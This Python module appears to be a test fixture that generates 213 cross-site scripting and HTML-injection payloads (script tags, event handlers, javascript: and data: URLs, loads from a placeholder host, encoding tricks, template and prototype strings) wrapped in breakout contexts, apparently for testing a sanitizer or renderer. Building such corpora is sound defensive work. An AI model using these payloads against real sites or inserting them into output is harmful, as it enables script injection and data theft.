"""213 texts that try to become more than text in a page: 71 patterns, each in three contexts that it breaks out of.

A pattern that comes to life sets `window.alive`, opens a dialog, or asks the host ELSEWHERE for something.
"""

ELSEWHERE = "elsewhere.invalid"
CODE = "window.alive=1;alert(1)"
SCRIPTS = (
    f"<script>{CODE}</script>",
    f"<SCRIPT SRC=//{ELSEWHERE}/x.js></SCRIPT>",
    f"<script type=module>import('//{ELSEWHERE}/x.js')</script>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f"<script/x>{CODE}</script\n>",
    f'<noscript><p title="</noscript><script>{CODE}</script>">',
    f"<template shadowrootmode=open><script>{CODE}</script></template>",
)
HANDLERS = tuple(
    f"<{tag}={CODE}>"
    for tag in (
        *("img src=x onerror", "svg/onload", "body onload", "input autofocus onfocus", "details open ontoggle"),
        *("video src=x onerror", "audio src onloadstart", "select autofocus onfocus", "textarea autofocus onfocus"),
        *("iframe onload", "object data=x onerror", "style onload", "link rel=stylesheet href=x onerror"),
        *("svg><animate attributeName=x dur=1s onbegin", "math><mtext><img src onerror", "p onmouseover"),
        *("button popovertarget=x onfocus autofocus", "p style=animation:spin onanimationstart", "marquee onstart"),
        "a href=# onclick",
    )
)
SCHEMES = (f"javascript:{CODE}", f"java\tscript:{CODE}", f"data:text/html,<script>{CODE}</script>", f"vbscript:{CODE}")
LINKS = tuple(
    form.format(scheme)
    for scheme in SCHEMES
    for form in ("{}", "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "[x]({})")
)
REQUESTS = tuple(
    form.format(f"//{ELSEWHERE}/x")
    for form in (
        *("<img src={}>", "<link rel=stylesheet href={}>", "<style>@import '{}'</style>", "<base href={}>"),
        *("<meta http-equiv=refresh content='0;url={}'>", "<embed src={}>", "<form action={}><input name=x></form>"),
        *("<p style=background:url({})>", "<source srcset={}>", "![x](https:{})"),
    )
)
ESCAPES = (
    f"&lt;script&gt;{CODE}&lt;/script&gt;",
    f"\\u003cscript\\u003e{CODE}\\u003c/script\\u003e",
    f"%3Cscript%3E{CODE}%3C/script%3E",
    f"\uff1cscript\uff1e{CODE}\uff1c/script\uff1e",
    f"<img\x00 src=x\x00 onerror={CODE}>\x1b[2J\x1b]52;c;eA==\x07",
    f"\u2028\u2029<img src=x onerror={CODE}>",
    f"\u202e>{CODE[::-1]}=rorreno x=crs gmi<\u2066\u200b",
    f"\ufeff<img src=x onerror={CODE}>\x85\x7f",
)
TEMPLATES = (
    f"{{{{constructor.constructor('{CODE}')()}}}}",
    f"${{{CODE}}}",
    f"<%= {CODE} %>",
    f"`${{{CODE}}}`",
    f"';{CODE};'",
    f"\\';{CODE}//",
    "__proto__",
    "constructor",
    "null",
    "{0.__class__} %n%s",
)
PATTERNS = (*SCRIPTS, *HANDLERS, *LINKS, *REQUESTS, *ESCAPES, *TEMPLATES)
CONTEXTS = ("{}", "\"'>{}<b x=\"'", "--></title></textarea></style></script></template>]]>{}<!--")
HOSTILE = tuple(context.replace("{}", pattern) for context in CONTEXTS for pattern in PATTERNS)
